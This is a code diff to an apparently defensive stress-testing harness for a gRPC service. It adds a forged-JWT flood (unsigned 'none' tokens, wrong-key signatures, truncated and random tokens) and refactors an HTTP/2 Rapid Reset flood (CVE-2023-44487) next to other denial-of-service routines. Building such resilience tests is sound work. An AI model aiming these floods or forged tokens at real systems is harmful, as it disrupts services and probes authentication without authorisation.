@@ -9,18 +9,21 @@ import argparse
 import contextlib
 import itertools
 import multiprocessing
+import random
 import socket
 import ssl
 import struct
 import tempfile
 import threading
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Mapping
 from dataclasses import dataclass, field
 from pathlib import Path
+from types import MappingProxyType
 from typing import Any
 
 import grpc
+import jwt
 import numpy as np
 
 from contracts import Store
@@ -67,25 +70,43 @@ class Aim:
         connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
         return connection
 
-    def channel(self) -> Channel:
+    def channel(self, *, with_token: bool = True) -> Channel:
         """Open a channel for messages of any size."""
-        return Channel(self.target, self.client, [("grpc.max_receive_message_length", -1)])
+        client = self.client if with_token else self.client.model_copy(update={"token_file": None})
+        return Channel(self.target, client, [("grpc.max_receive_message_length", -1)])
 
 
-def headers(aim: Aim) -> bytes:
+def headers(aim: Aim, more: Mapping[str, bytes] = MappingProxyType({})) -> bytes:
     """The header block of a call, as HPACK literals that are not indexed."""
     fields = {
-        ":method": "POST",
-        ":scheme": "https" if aim.client.tls else "http",
-        ":path": METHOD,
-        ":authority": aim.target,
-        "te": "trailers",
-        "content-type": "application/grpc",
+        ":method": b"POST",
+        ":scheme": b"https" if aim.client.tls else b"http",
+        ":path": METHOD.encode(),
+        ":authority": aim.target.encode(),
+        "te": b"trailers",
+        "content-type": b"application/grpc",
+        **more,
     }
     return b"".join(
-        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
-        for name, value in fields.items()
+        b"\x00" + _length(len(name)) + name.encode() + _length(len(value)) + value for name, value in fields.items()
     )
+
+
+def _length(size: int) -> bytes:
+    """An integer of HPACK with a prefix of seven bits (RFC 7541, 5.1)."""
+    if size < 127:
+        return bytes([size])
+    found, left = [127], size - 127
+    while left >= 128:
+        found.append(left % 128 + 128)
+        left //= 128
+    return bytes([*found, left])
+
+
+def call(block: bytes, stream: int, message: bytes) -> bytes:
+    """The frames of a call with a header block."""
+    body = b"\x00" + struct.pack(">I", len(message)) + message
+    return frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, _END_STREAM, stream, body)
 
 
 def idle(aim: Aim, until: float, count: int = 2000, *, speaking: bool = True) -> None:
@@ -131,18 +152,10 @@ def _flood(aim: Aim, until: float, frames: Callable[[int], bytes]) -> None:
 
 def rapid_reset(aim: Aim, until: float) -> None:
     """Begin calls and take them back at once (CVE-2023-44487)."""
-    block = headers(aim)
-    message = pb.RetrieveRequest(queries=GOOD).SerializeToString()
-    body = b"\x00" + struct.pack(">I", len(message)) + message
-
-    def call(stream: int) -> bytes:
-        return (
-            frame(_HEADERS, _END_HEADERS, stream, block)
-            + frame(_DATA, _END_STREAM, stream, body)
-            + frame(_RST_STREAM, 0, stream, struct.pack(">I", 8))
-        )
-
-    _flood(aim, until, call)
+    block, message = headers(aim), pb.RetrieveRequest(queries=GOOD).SerializeToString()
+    _flood(
+        aim, until, lambda stream: call(block, stream, message) + frame(_RST_STREAM, 0, stream, struct.pack(">I", 8))
+    )
 
 
 def pings(aim: Aim, until: float) -> None:
@@ -153,12 +166,12 @@ def pings(aim: Aim, until: float) -> None:
 def _calls(aim: Aim, until: float, request: bytes, under_way: int = 4) -> None:
     """Send the same bytes again and again, with so many calls under way."""
     with contextlib.closing(aim.channel()) as channel:
-        call = channel.open().unary_unary(METHOD)
+        method = channel.open().unary_unary(METHOD)
 
         def loop() -> None:
             while time.time() < until:
                 try:
-                    call(request, timeout=30)
+                    method(request, timeout=30)
                 except grpc.RpcError:
                     time.sleep(0.001)
 
@@ -192,9 +205,45 @@ def expensive(aim: Aim, until: float) -> None:
     _calls(aim, until, request.SerializeToString())
 
 
+def forged_tokens(count: int, seed: int = 0) -> Iterator[str]:
+    """Tokens that nobody has signed who may: another key by a known name, unheard-of keys, no signature, nonsense."""
+    draw, forger = random.Random(seed), Issuer({"one": "EC", "unheard-of": "EC"})
+    signed = [forger.token(kid, sub=f"user-{number}") for kid in forger.keys for number in range(20)]
+    unsigned = [jwt.encode({"sub": "ann"}, None, "none", headers={"kid": kid}) for kid in ("one", "two")]
+    letters = [chr(code) for code in range(33, 127)]
+    for _ in range(count):
+        head, body, seal = draw.choice(signed).split(".")
+        cut = draw.randrange(1, len(body))
+        yield draw.choice(
+            (
+                f"{head}.{body}.{seal}",
+                f"{head}.{body[:cut]}.{seal}",
+                f"{head}.{body}.",
+                draw.choice(unsigned),
+                "".join(draw.choices(letters, k=draw.randrange(1, 4000))),
+            )
+        )
+
+
+def forged(aim: Aim, until: float) -> None:
+    """Tokens of a forger, of which many cost the server a signature to be verified."""
+    request, tokens = pb.RetrieveRequest(queries=GOOD).SerializeToString(), [*forged_tokens(1000)]
+    with contextlib.closing(aim.channel(with_token=False)) as channel:
+        method = channel.open().unary_unary(METHOD)
+        endless = itertools.cycle(tokens)
+        while time.time() < until:
+            under_way = [
+                method.future(request, metadata=[("authorization", f"Bearer {token}")])
+                for token in itertools.islice(endless, 16)
+            ]
+            for each in under_way:
+                with contextlib.suppress(grpc.RpcError):
+                    each.result()
+
+
 ATTACKS: dict[str, Callable[[Aim, float], None]] = {
     attack.__name__: attack
-    for attack in (idle_tcp, idle, rapid_reset, pings, violations, undecodable, many_fields, expensive)
+    for attack in (idle_tcp, idle, rapid_reset, pings, violations, undecodable, many_fields, expensive, forged)
 }
 
 
